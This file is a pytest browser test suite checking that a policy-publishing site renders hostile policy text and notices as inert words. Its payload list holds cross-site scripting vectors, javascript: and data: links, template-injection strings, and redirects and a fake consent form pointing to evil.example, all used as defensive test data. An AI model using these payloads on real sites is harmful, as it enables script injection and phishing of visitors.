"""Whatever a policy, its front matter or a notice contains: it is text on its page, and nothing more."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.browser.browser import serving
from tests.browser.conftest import Open
from tests.conftest import PolicyRepo, at
from tests.site import world
from tests.site.conftest import build

pytestmark = pytest.mark.browser

# Each would run `pwned`, ask another host, restyle the page, imitate its parts or break out of its block.
ATTACKS = [
    "<script>pwned('element')</script>",
    "<ScRiPt\n>pwned('mixed case')</sCrIpT >",
    "<img src=# onerror=pwned('image')>",
    "<svg onload=pwned('svg')><animate onbegin=pwned('animate') attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:pwned('svg-link')><text>drawn</text></a></svg>",
    '<noscript><p title="</noscript><img src=# onerror=pwned(1)>"></noscript>',
    '<math><mtext><img title="--></mtext><img src=# onerror=pwned(2)>"></mtext></math>',
    "<details open ontoggle=pwned('toggle')><summary>more</summary></details>",
    "<video><source onerror=pwned('source')></video>",
    "<input autofocus onfocus=pwned('focus')>",
    "[press](javascript:pwned('link'))",
    "[press](JaVaScRiPt&colon;pwned('entity'))",
    '<a href="java&#9;script:pwned(3)">press</a> <a href="&#1;javascript:pwned(4)">press</a>',
    "[press](data:text/html,<script>pwned(5)</script>) [press](vbscript:pwned)",
    "Pressed.\n{: onclick=\"pwned('attribute list')\" }",
    "## A heading {: onmouseover=\"pwned('heading')\" }",
    "## <img src=# onerror=pwned(6)> in a heading",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    "<form action=https://evil.example/><input name=email><button>I agree</button></form>",
    '<div class="pp-banner"><a href="https://evil.example/">The statement does not change.</a></div>',
    '<aside class="md-banner"><p class="pp-stale">Old.</p></aside>',
    '<div class="pp-card"><span class="pp-chip pp-chip--in-force">In force</span></div>',
    '<p data-until="2000-01-01T00:00:00Z" class="pp-sr">Never hidden by the clock.</p>',
    '<template data-from="2000-01-01T00:00:00Z"><b>taken out</b></template>',
    "{{ config }} {% include 'main.html' %} {# note #}",
    "]]> --> <!-- kept <![CDATA[ x",
    "</template></div></div></article></main><footer>Outside</footer>",
    "We keep <b>bold <i>and slanted",
    "<textarea><title><xmp><plaintext>",
    "THE LAST WORDS",
]
LINE = '"><script>pwned(7)</script> & {{ 7 * 7 }}'
TITLE = 'Rules " onclick=pwned(8) & {{ 7 * 7 }}'  # angle brackets are refused there
NOTICE = "\n\n".join(["Plain words.", *ATTACKS])
PAGES = [
    "", "privacy/", "privacy/v1/", "privacy/v2/", "privacy/v2/changes/",
    "privacy/compare/?from=1&to=2", "privacy/history/", "privacy/v2/print/",
    "notices/", "notices/privacy-2/", "when/",
]  # fmt: skip


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a site with a hostile text in force, a hostile one to come, and its notice."""
    folder = tmp_path_factory.mktemp("attacked")
    repo = PolicyRepo(folder / "repo")
    head = f"---\ntitle: '{TITLE}'\ndescription: 'D {LINE}'\neffective: 2020-01-01\n---\n\n"
    text = head + "# Rules\n\n" + "\n\n".join(ATTACKS) + "\n"
    repo.commit({"policy/privacy.md": text})
    world.publish(repo, at("2026-11-02 10:00"))
    changed = text.replace("Pressed.", "<script>pwned('new')</script> Pressed twice.")
    repo.commit({
        "policy/privacy.md": changed.replace("We keep", "We keep for 13 months"),
        "policy/notices/n.md": world.notice("privacy", f"'S {LINE}'", NOTICE),
    })  # fmt: skip
    with serving(build(repo, folder / "site")) as address:
        yield address


@pytest.mark.parametrize("when", [world.TODAY, at("2027-03-01 09:00")], ids=["before", "after"])
def test_nothing_in_a_text_acts_or_imitates(visit: Open, attacked: str, when) -> None:
    """No script runs, no host is asked, no part of the page is faked, on any page, on any day."""
    for path in PAGES:
        page = visit(path, when, address=attacked, init="window.pwned = n => { window.ran = n }")
        page.evaluate(
            "for (const element of document.querySelectorAll('article *, body > *'))"
            " for (const kind of ['mouseover', 'focus', 'toggle', 'error', 'load'])"
            " element.dispatchEvent(new Event(kind))"
        )
        assert page.evaluate("window.ran") is None, path
        assert page.faults == [], path  # type: ignore[attr-defined]
        links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.protocol)")
        assert set(links) <= {"http:", "https:"}, path
        parts = page.locator(":is(.pp-text, .pp-words, .pp-redline, .pp-summary)")
        for part in range(parts.count()):
            inside = parts.nth(part).locator(
                ":is(script, style, link, meta, base, form, input, button, textarea, template, svg,"
                " iframe, [class^=pp-], [class^=md-], [onclick], [onerror], [data-until])"
            )
            own = ".pp-chip, .pp-icon, .md-typeset__scrollwrap, .md-typeset__table"
            strange = inside.evaluate_all(
                "(all, own) => all.filter(e => !e.matches(own)).map(e => e.outerHTML)", own
            )
            assert strange == [], path


def test_a_text_stays_in_its_block(visit: Open, attacked: str) -> None:
    """The last words are still inside the text; what follows it is as on any page."""
    for path in ("privacy/", "privacy/v2/"):
        page = visit(path, address=attacked)
        assert page.locator(".pp-text").inner_text().rstrip().endswith("THE LAST WORDS")
        look = "e => [getComputedStyle(e).fontWeight, getComputedStyle(e).fontStyle]"
        stamp = page.locator(".pp-stamp")
        assert stamp.count() == 1
        assert stamp.evaluate("e => e.closest('.pp-text, b, i, a')") is None
        for following in (stamp, page.locator(".pp-text > :is(p, div)").last):
            assert following.evaluate(look) == ["400", "normal"]
        assert page.locator("footer.md-footer").evaluate("e => e.closest('main')") is None


def test_the_banner_is_the_publishers_alone(visit: Open, attacked: str) -> None:
    """A text cannot add a line, and a title cannot break out of one."""
    assert visit("privacy/", address=attacked).title().startswith(TITLE)
    page = visit("notices/", address=attacked)
    (line,) = page.locator(".pp-banner, [role=alert], [role=note], .md-banner p").all_inner_texts()
    assert line == f"{TITLE}: changes apply from 15 January 2027. S {LINE}"


def test_the_search_shows_hostile_words_as_words(visit: Open, attacked: str) -> None:
    """The search index goes through a worker and back into the page; nothing runs on the way."""
    page = visit("", address=attacked, ticking=True, init="window.pwned = n => { window.ran = n }")
    page.locator("input.md-search__input").press_sequentially("pwned")
    page.locator(".md-search-result__item").first.wait_for()
    assert page.evaluate("window.ran") is None
    assert page.locator(".md-search-result__list :is(script, svg:not([viewBox]))").count() == 0
    assert page.faults == []  # type: ignore[attr-defined]
